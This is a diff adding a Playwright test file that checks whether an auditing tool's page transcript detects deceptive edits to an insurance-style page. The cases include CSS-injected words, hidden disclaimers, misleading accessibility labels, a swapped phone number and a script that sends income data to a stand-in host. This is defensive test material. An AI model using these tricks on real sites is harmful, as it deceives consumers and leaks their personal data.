@@ -1,0 +1,256 @@
+import { test as base, expect } from 'playwright/test';
+import { Addresses } from '../../../scripts/audit/transcript/addresses.ts';
+import { describeChanges } from '../../../scripts/audit/transcript/line-changes.ts';
+import { walkPage, type PageWalk } from '../../../scripts/audit/transcript/walk-page.ts';
+import { compileContent } from '../../../scripts/content/compile.ts';
+import { fileURLToPath } from 'node:url';
+
+/** What an honest page says, what an attack makes of it, and what the transcript has to hold then. */
+interface Attack {
+  honest: string;
+  attacked: string;
+  /** Styles of the attacked page only. */
+  style?: string;
+  expected: string;
+}
+
+const NOTICE = '<p>This is not the Health Insurance Marketplace website.</p>';
+
+const ATTACKS: Record<string, Attack> = {
+  'a style variable adds words': {
+    honest: '<p id="v">Insurance</p>',
+    attacked: '<p id="v">Insurance</p>',
+    style: '#v { --said: "Free "; } #v::before { content: var(--said); }',
+    expected: '+ Free Insurance',
+  },
+  'an attribute is shown': {
+    honest: '<p id="a" data-x="1">Insurance for you</p>',
+    attacked: '<p id="a" data-x="Government ">Insurance for you</p>',
+    style: '#a::before { content: attr(data-x); }',
+    expected: '+ (x: Government ) Government Insurance for you',
+  },
+  'a counter counts in words': {
+    honest: '<p id="c">Premiums</p>',
+    attacked: '<p id="c">Premiums</p>',
+    style:
+      '@counter-style zero { system: fixed; symbols: "No "; } #c { counter-increment: c; } #c::before { content: counter(c, zero); }',
+    expected: '+ No Premiums',
+  },
+  'quotation marks say something': {
+    honest: '<p>Our plans <q id="q">rise in price</q></p>',
+    attacked: '<p>Our plans <q id="q">rise in price</q></p>',
+    style: '#q { quotes: "never " ""; }',
+    expected: '+ Our plans never rise in price',
+  },
+  'list marks say something': {
+    honest: '<ul><li id="l">approval by a carrier</li></ul>',
+    attacked: '<ul><li id="l">approval by a carrier</li></ul>',
+    style: '#l { list-style: "Guaranteed "; }',
+    expected: '+ - Guaranteed approval by a carrier',
+  },
+  'a list starts elsewhere': {
+    honest: '<ol><li>in customer service</li></ol>',
+    attacked: '<ol start="10"><li>in customer service</li></ol>',
+    expected: '+ - 10. in customer service',
+  },
+  'letters of no size': {
+    honest: NOTICE,
+    attacked: NOTICE.replace('<p', '<p style="font-size: 0"'),
+    expected: '+ «heard, not seen: letters too small: This is not the Health Insurance Marketplace website.»',
+  },
+  'the color of the ground': {
+    honest: NOTICE.replace('This', 'Here: this'),
+    attacked: NOTICE.replace('This', 'Here: this').replace('<p', '<p style="color: #fefefe"'),
+    expected: '+ «heard, not seen: color of its ground: Here: this is not',
+  },
+  'one word hidden': {
+    honest: '<p>This plan does <b>not</b> cover everything.</p>',
+    attacked: '<p>This plan does <b style="display: none">not</b> cover everything.</p>',
+    expected: '+ This plan does cover everything.',
+  },
+  'shifted off the page': {
+    honest: '<p>Prices may rise.</p>',
+    attacked: '<p style="position: absolute; left: -9999px">Prices may rise.</p>',
+    expected: '+ «heard, not seen: off the page: Prices may rise.»',
+  },
+  'cut off by a box': {
+    honest: '<div><p>Benefits differ.</p></div>',
+    attacked: '<div style="height: 0; overflow: hidden"><p>Benefits differ.</p></div>',
+    expected: '+ «heard, not seen: cut off: Benefits differ.»',
+  },
+  'cut away by a shape': {
+    honest: '<p>Carriers may decline.</p>',
+    attacked: '<p style="clip-path: inset(50%)">Carriers may decline.</p>',
+    expected: '+ «heard, not seen: cut off: Carriers may decline.»',
+  },
+  'transparent through an ancestor': {
+    honest: '<div><p>Waiting periods apply.</p></div>',
+    attacked: '<div style="opacity: 0.05"><p>Waiting periods apply.</p></div>',
+    expected: '+ «heard, not seen: transparent: Waiting periods apply.»',
+  },
+  'covered by something else': {
+    honest: '<div style="position: relative"><p>Exclusions apply.</p></div>',
+    attacked:
+      '<div style="position: relative"><p>Exclusions apply.</p><i style="position: absolute; inset: 0; background: #fff"></i></div>',
+    expected: '+ «heard, not seen: covered: Exclusions apply.»',
+  },
+  'withheld from assistive technology': {
+    honest: '<p>Read this notice.</p>',
+    attacked: '<p aria-hidden="true">Read this notice.</p>',
+    expected: '+ «seen, not heard: Read this notice.»',
+  },
+  'struck through': {
+    honest: '<p>No refunds</p>',
+    attacked: '<p><s>No</s> refunds</p>',
+    expected: '+ «struck through: No» refunds',
+  },
+  'moved into a template': {
+    honest: '<p>We are a private agency.</p>',
+    attacked: '<template><p>We are a private agency.</p></template>',
+    expected: 'gone: We are a private agency.',
+  },
+  'for visitors without scripts only': {
+    honest: '<p>Ask a tax adviser.</p>',
+    attacked: '<noscript><p>Ask a tax adviser.</p></noscript>',
+    expected: 'gone: Ask a tax adviser.',
+  },
+  'a box ticked beforehand': {
+    honest: '<label><input type="checkbox"> Call me</label>',
+    attacked: '<label><input type="checkbox" checked> Call me</label>',
+    expected: '+ [(•) checkbox “Call me”] Call me',
+  },
+  'a field filled in beforehand': {
+    honest: '<label>Agent <input></label>',
+    attacked: '<label>Agent <input value="Marketplace"></label>',
+    expected: '+ Agent [text “Agent” = “Marketplace”]',
+  },
+  'a name other than the words': {
+    honest: '<a href="/quote">See plans</a>',
+    attacked: '<a href="/quote" aria-label="See government plans">See plans</a>',
+    expected: '+ [See plans](→ /quote; spoken as “See government plans”)',
+  },
+  'a description that only some hear': {
+    honest: '<button>Start</button>',
+    attacked: '<button aria-description="Official site">Start</button>',
+    expected: '+ [button: Start; described as “Official site”]',
+  },
+  'a link leads elsewhere': {
+    honest: '<a href="tel:+18005550142">Call us</a>',
+    attacked: '<a href="tel:+18005550143">Call us</a>',
+    expected: '+ [Call us](→ tel:+18005550143)',
+  },
+  'the subject of an email': {
+    honest: '<a href="mailto:help@agency.example">Write</a>',
+    attacked: '<a href="mailto:help@agency.example?subject=Official">Write</a>',
+    expected: '+ [Write](→ mailto:help@agency.example?subject=Official)',
+  },
+  'the order of figures': {
+    honest: '<div id="o"><b>$0</b><b>$500</b></div>',
+    attacked: '<div id="o"><b>$0</b><b>$500</b></div>',
+    style: '#o { display: flex; flex-direction: row-reverse; }',
+    expected: '+ (shown before what precedes it)',
+  },
+  'another picture under a name': {
+    honest:
+      '<img alt="Seal" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">',
+    attacked:
+      '<img alt="Seal" src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==">',
+    expected: '+ {picture data:',
+  },
+  'a picture behind words': {
+    honest: '<p id="b">Call now</p>',
+    attacked: '<p id="b">Call now</p>',
+    style:
+      '#b { background: url("data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"); }',
+    expected: '+ {background data:',
+  },
+  'a script rewrites a heading later': {
+    honest: '<h2 id="late">Get help</h2>',
+    attacked:
+      '<h2 id="late">Get help</h2><script>setTimeout(() => { late.textContent = "Get free help" }, 60_000)</script>',
+    expected: '+ ## Get free help',
+  },
+  'a script asks elsewhere': {
+    honest: '<p>Private</p>',
+    attacked: '<p>Private</p><script>fetch("https://collect.example/?income=20000").catch(() => 0)</script>',
+    expected: 'asks: https://collect.example/?income=20000',
+  },
+  'a script leads on': {
+    honest: '<p>Stay</p>',
+    attacked:
+      '<p>Stay</p><script>setTimeout(() => { location.href = "https://elsewhere.example/" }, 5_000)</script>',
+    expected: 'leads to: https://elsewhere.example/',
+  },
+  'a script keeps answers': {
+    honest: '<p>Nothing is stored</p>',
+    attacked:
+      '<p>Nothing is stored</p><script>localStorage.setItem("draft", JSON.stringify({ income: "20000" }))</script>',
+    expected: '+ kept in this browser: draft.income = 20000',
+  },
+  'words on paper only': {
+    honest: '<p id="paper">Terms</p>',
+    attacked: '<p id="paper">Terms</p>',
+    style: '@media print { #paper::after { content: " do not apply"; } }',
+    expected: 'on paper: + Terms do not apply',
+  },
+  'words at one width only': {
+    honest: '<p id="w">Rates</p>',
+    attacked: '<p id="w">Rates</p>',
+    style: '@media (min-width: 700px) and (max-width: 900px) { #w::after { content: " guaranteed"; } }',
+    expected: 'at 768 px: + Rates guaranteed',
+  },
+  'words for visitors who want less motion': {
+    honest: '<p id="m">Quotes</p>',
+    attacked: '<p id="m">Quotes</p>',
+    style: '@media (prefers-reduced-motion) { #m::after { content: " are binding"; } }',
+    expected: 'with less motion, dark and forced colors: + Quotes are binding',
+  },
+};
+
+const test = base.extend<object, { changes: string[] }>({
+  changes: [
+    async ({ browser }, use) => {
+      const { content } = compileContent(fileURLToPath(new URL('../../..', import.meta.url)));
+      if (content === null) throw new Error('the content has errors');
+      const walk = (html: string): Promise<PageWalk> =>
+        walkPage({ route: '/', address: 'http://127.0.0.1:9/', html, body: html }, 'desktop', {
+          browser,
+          content,
+          states: [],
+          addresses: new Addresses('/nowhere', 'http://127.0.0.1:9'),
+        });
+      const [honest, again, attacked] = [
+        await walk(page('honest')),
+        await walk(page('honest')),
+        await walk(page('attacked')),
+      ];
+      expect(again, 'two walks of one page').toEqual(honest);
+      await use(differences(honest, attacked));
+    },
+    { scope: 'worker' },
+  ],
+});
+
+for (const [name, { expected }] of Object.entries(ATTACKS))
+  test(`${name}: the transcript shows it @any-width`, ({ changes }) => {
+    expect(changes.filter((line) => line.startsWith(expected))).not.toEqual([]);
+  });
+
+/** All cases below each other, each apart from the next. */
+function page(kind: 'honest' | 'attacked'): string {
+  const cases = Object.values(ATTACKS);
+  const styles = kind === 'honest' ? [] : cases.map(({ style }) => style ?? '');
+  return `<!doctype html><html lang="en"><title>Cases</title><style>body { background: #fff; } ${styles.join('\n')}</style>
+    <main>${cases.map((each) => `<section>${each[kind]}</section>`).join('\n')}</main></html>`;
+}
+
+function differences(before: PageWalk, after: PageWalk): string[] {
+  const trim = (lines: readonly string[]) => lines.map((line) => line.replace(/^([+-])\s+/, '$1 '));
+  return [
+    ...trim(describeChanges(before.lines, after.lines)),
+    ...before.lines.filter((line) => !after.lines.includes(line)).map((line) => `gone: ${line.trim()}`),
+    ...after.requests.filter((each) => !before.requests.includes(each)).map((each) => `asks: ${each}`),
+    ...after.navigations.map((each) => `leads to: ${each}`),
+    ...after.meetings.flatMap(({ name, changes }) => trim(changes).map((change) => `${name}: ${change}`)),
+  ];
+}
